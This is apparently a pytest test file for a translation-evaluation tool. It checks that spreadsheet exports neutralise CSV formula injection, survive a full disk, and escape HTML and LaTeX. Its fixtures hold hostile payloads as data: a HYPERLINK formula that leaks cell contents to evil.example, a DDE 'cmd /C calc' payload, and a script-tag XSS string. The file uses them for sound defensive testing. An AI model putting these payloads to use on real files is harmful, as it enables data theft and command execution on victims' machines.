"""Exports are safe to open and never half-written, and tsqe reads its own exports back unchanged.

A suite whose category, phenomenon, system names and outputs are formula payloads (OWASP's CSV injection) goes
through every spreadsheet-bound export: no XLSX cell is a formula, no CSV/TSV text cell starts a formula, and
importing the export gives back the very texts. An export that fails on a full disk leaves the previous file as
it was and names the file.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hostile_helpers import fill, mounted_tmpfs, tsqe
from sqlalchemy import select

from store import open_database
from store.models import Category, Item, Output, Phenomenon, QEScore, Rule, System
from suite.importers.result import Problems
from suite.importers.tables import read_table
from suite.safe_export import FORMULA_STARTS, from_spreadsheet, spreadsheet_text
from suite.tables import Cell, Column, Table, render

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
HOSTILE_SUITE = ("id\tcategory\tphenomenon\tsource\tpositive_regex\tnegative_regex\n"
                 f'x-01\t"{LEAK.replace(chr(34), chr(34) * 2)}"\t{CALC}\tDie Bank.\t\\bbench\\b\t=\n'
                 "x-02\t@SUM(1+1)\t+1+1\tDas Schloss.\t-lock\t'=quoted\n"
                 "x-03\tPlain\tPlain\tDer Hund.\t\\bdog\\b\t\n")
HOSTILE_OUTPUTS = ("item_id\tsystem\toutput\n"
                   "x-01\t=1+1\tThe bench.\n"
                   "x-01\t-2+3\t=SUM(A1:A9)\n"
                   "x-02\t=1+1\t@lock\n"
                   "x-02\t-2+3\tThe lock.\n"
                   "x-03\t=1+1\t-0.5\n"
                   "x-03\t-2+3\tThe dog.\n")


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.sqlite"
    (tmp_path / "suite.tsv").write_text(HOSTILE_SUITE, encoding="utf-8")
    (tmp_path / "outputs.tsv").write_text(HOSTILE_OUTPUTS, encoding="utf-8")
    for args in (("import", "suite", str(tmp_path / "suite.tsv"), "--name", "h", "--source-lang", "de",
                  "--target-lang", "en"), ("import", "outputs", str(tmp_path / "outputs.tsv")), ("label",)):
        code, stderr = tsqe(db, *args)
        assert code == 0, stderr
    return db


def _stored(db: Path, suite: str = "h") -> dict[str, set[str]]:
    database = open_database(db)
    try:
        with database.session() as session:
            return {"categories": set(session.scalars(select(Category.name))),
                    "phenomena": set(session.scalars(select(Phenomenon.name))),
                    "patterns": set(session.scalars(select(Rule.pattern))),
                    "systems": set(session.scalars(select(System.name))),
                    "outputs": set(session.scalars(select(Output.text)))}
    finally:
        database.close()


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''@x", "'plain",
                                  "-0.5", "+3e5", "plain", "", "'", "=", LEAK, CALC])
def test_the_neutralising_apostrophe_comes_off_again(text: str) -> None:
    safe = spreadsheet_text(text)
    assert from_spreadsheet(safe) == text
    number = text.lstrip("+-").replace(".", "", 1).replace("e", "", 1).isdigit()
    assert not safe.startswith(FORMULA_STARTS) or number


def _cells_of_csv(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".xlsx"])
def test_a_report_writes_no_live_formula(hostile_db: Path, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"report{suffix}"
    code, stderr = tsqe(hostile_db, "report", "systems", "--by", "phenomenon", "--out", str(out))
    assert code == 0, stderr
    if suffix == ".xlsx":
        workbook = openpyxl.load_workbook(out)
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert {LEAK, CALC, "=1+1", "-2+3"} <= texts  # as text, whole
        assert all(cell.quotePrefix for cell in cells if cell.value in (LEAK, CALC, "=1+1"))
        return
    cells = _cells_of_csv(out.read_text(encoding="utf-8"), "," if suffix == ".csv" else "\t")
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)]
    assert live == []
    assert {"'" + LEAK, "'" + CALC, "'=1+1 pass rate", "'-2+3 pass rate"} & set(cells)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("suffix", [".tsv", ".csv", ".xlsx"])
def test_an_exported_suite_is_safe_and_imports_back_unchanged(hostile_db: Path, tmp_path: Path,
                                                              suffix: str) -> None:
    out = tmp_path / f"suite{suffix}"
    assert tsqe(hostile_db, "export", "suite", str(out))[0] == 0
    if suffix == ".xlsx":
        sheet = openpyxl.load_workbook(out).worksheets[0]
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    else:
        cells = _cells_of_csv(out.read_text(encoding="utf-8"), "," if suffix == ".csv" else "\t")
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    copy = tmp_path / "copy.sqlite"
    code, stderr = tsqe(copy, "import", "suite", str(out), "--name", "h")
    assert code == 0, stderr
    before, after = _stored(hostile_db), _stored(copy)
    for key in ("categories", "phenomena", "patterns"):
        assert after[key] == before[key]
    assert {LEAK, "@SUM(1+1)"} <= after["categories"] and CALC in after["phenomena"]
    assert {"=", "=quoted", "-lock"} <= after["patterns"]  # a file's own apostrophe before "=" is read as Excel's


def test_exported_labels_and_scores_read_back_unchanged(hostile_db: Path, tmp_path: Path) -> None:
    labels = tmp_path / "labels.tsv"
    assert tsqe(hostile_db, "export", "labels", str(labels))[0] == 0
    cells = _cells_of_csv(labels.read_text(encoding="utf-8"), "\t")
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)] == []
    problems = Problems(str(labels))
    rows = read_table(labels, problems, ("item_id", "system", "output"),
                      ("auto_label", "decided_by", "manual_label", "reviewer", "reviewed_at", "comment",
                       "effective_label", "rule_id"))
    assert not problems.errors
    stored = _stored(hostile_db)
    assert {row["system"] for row in rows} == stored["systems"] == {"=1+1", "-2+3"}
    assert {row["output"] for row in rows} == stored["outputs"]
    scores = tmp_path / "scores.tsv"
    code, stderr = tsqe(hostile_db, "score", "--metric", "label", "--out", str(scores))
    assert code == 0, stderr
    assert "'=1+1" in scores.read_text(encoding="utf-8")
    code, stderr = tsqe(hostile_db, "import", "qe", str(scores), "--name", "Q")
    assert code == 0, stderr
    database = open_database(hostile_db)
    try:
        with database.session() as session:
            assert session.scalar(select(QEScore.score).limit(1)) is not None
    finally:
        database.close()


def test_markdown_and_latex_keep_a_row_on_one_line_and_escape_html() -> None:
    table = Table("t", [Column("category", "text"), Column("n", "count")],
                  [[Cell("Coordination\nand <script>alert(1)</script> [x](javascript:y)"), Cell(3)],
                   [Cell("a\r\nb\u2028c|d_e"), Cell(4)]])
    markdown = render(table, "md")
    rows = [line for line in markdown.splitlines() if line.startswith("| ")]
    assert len(rows) == 3  # header and two rows, each on one line
    assert "<script>" not in markdown and "&lt;script&gt;" in markdown and "\\[x\\](javascript:y)" in markdown
    assert "| a b c\\|d\\_e | 4 |" in markdown
    latex = render(table, "latex")
    body = [line for line in latex.splitlines() if line.endswith(r"\\")]
    assert len(body) == 3 and r"a b c\textbar{}d\_e & 4 \\" in body
    assert r"\textless{}script\textgreater{}" in latex


@pytest.mark.parametrize("command", [("report", "systems", "--out"), ("export", "labels"), ("export", "suite")])
def test_an_export_that_fails_on_a_full_disk_leaves_the_previous_file(hostile_db: Path, tmp_path: Path,
                                                                      command: tuple[str, ...]) -> None:
    with mounted_tmpfs(tmp_path / "disk", "64k") as disk:
        target = disk / "previous.tsv"
        target.write_text("the previous export\n", encoding="utf-8")
        fill(disk)
        code, stderr = tsqe(hostile_db, *command, str(target))
        assert code == 2
        assert stderr == (f"error: {target}: the disk is full (No space left on device); the previous file was left "
                          f"as it was\n")
        assert target.read_text(encoding="utf-8") == "the previous export\n"
        assert sorted(path.name for path in disk.iterdir()) == ["filler", "previous.tsv"]


def test_a_submission_map_is_safe_to_open_and_brings_the_translations_back(tmp_path: Path) -> None:
    """Item ids that a spreadsheet would run (``=1+1``) are written to the map with the apostrophe, and the
    systems' returned translations still find their items through it."""
    db = tmp_path / "s.sqlite"
    (tmp_path / "suite.tsv").write_text("id\tcategory\tphenomenon\tsource\n=1+1\tC\tP\tDie Bank.\n"
                                        "@cmd\tC\tP\tDas Schloss.\n", encoding="utf-8")
    assert tsqe(db, "import", "suite", str(tmp_path / "suite.tsv"), "--name", "s", "--source-lang", "de",
                "--target-lang", "en")[0] == 0
    code, stderr = tsqe(db, "export", "testsuite-submission", str(tmp_path / "out"))
    assert code == 0, stderr
    [map_file] = (tmp_path / "out").glob("*.map.tsv")
    cells = _cells_of_csv(map_file.read_text(encoding="utf-8"), "\t")
    assert "'=1+1" in cells and "'@cmd" in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)] == []
    returned = tmp_path / "returned.en"
    returned.write_text("The bench.\nThe lock.\n", encoding="utf-8")
    code, stderr = tsqe(db, "import", "outputs", str(returned), "--map", str(map_file), "--system", "MT")
    assert code == 0, stderr
    database = open_database(db)
    try:
        with database.session() as session:
            pairs = set(session.execute(select(Item.external_id, Output.text).join(Output.item)).all())
    finally:
        database.close()
    assert pairs == {("=1+1", "The bench."), ("@cmd", "The lock.")}


@pytest.mark.parametrize("command", [("export", "mtme"), ("export", "testsuite-submission")])
def test_a_folder_export_that_fails_on_a_full_disk_leaves_every_previous_file(hostile_db: Path, tmp_path: Path,
                                                                             command: tuple[str, ...]) -> None:
    """The files of a folder export are written whole before any replaces its previous one: a full disk midway
    leaves every previous file, not some old and some new."""
    with mounted_tmpfs(tmp_path / "disk", "256k") as disk:
        folder = disk / "export"
        code, stderr = tsqe(hostile_db, *command, str(folder))
        assert code == 0, stderr
        files = sorted(path for path in folder.rglob("*") if path.is_file())
        assert len(files) >= 3
        for path in files:
            path.write_text("previous\n", encoding="utf-8")
        fill(disk)
        code, stderr = tsqe(hostile_db, *command, str(folder))
        assert code == 2
        assert stderr.startswith("error: ") and "the disk is full (No space left on device)" in stderr
        assert sorted(path for path in folder.rglob("*") if path.is_file()) == files  # no temporary file left
        assert {path.read_text(encoding="utf-8") for path in files} == {"previous\n"}


def test_names_with_dollars_are_drawn_as_written_not_as_formulas(tmp_path: Path) -> None:
    """Matplotlib reads a text between two ``$`` as a formula: a category named ``$\\foo$`` made saving the chart
    fail (ValueError, 'Unknown symbol'), in the window and in ``--plot``."""
    from qe.plots import Bars, row_bars
    from suite.figures import save_figure

    figure = row_bars([r"$\foo$", "plain"], [Bars("$x^2$ MT", [40.0, 60.0])], title="costs $5 and $6")
    path = save_figure(figure, tmp_path / "chart.png")
    assert path.stat().st_size > 0
    axes = figure.axes[0]
    assert [label.get_text() for label in axes.get_yticklabels()] == [r"\$\foo\$", "plain"]
    assert figure.legends[0].get_title().get_text() == r"costs \$5 and \$6"
